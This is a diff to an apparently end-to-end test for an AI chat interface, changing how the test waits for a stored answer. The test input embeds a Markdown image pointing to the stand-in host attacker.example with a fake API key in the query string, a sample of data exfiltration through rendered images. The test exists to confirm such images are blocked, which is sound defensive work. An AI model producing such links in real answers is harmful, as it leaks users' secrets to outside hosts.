@@ -97,7 +97,7 @@ await step("an answer with a remote image renders without any request to another
   // The fake provider echoes the question, so the answer carries the image Markdown.
   await box.fill("Summarise ![status](https://attacker.example/collect?q=SECRET-API-KEY-123) please");
   await box.press("Enter");
-  await page.getByTestId("answer-usage").last().waitFor();
+  await eventually(async () => (await page.getByTestId("pending-answer").count()) === 0, "the stored answer");
   const answer = page.getByRole("article", { name: "Answer" }).last();
   const blocked = answer.locator("a.blocked-image");
   await blocked.first().waitFor();
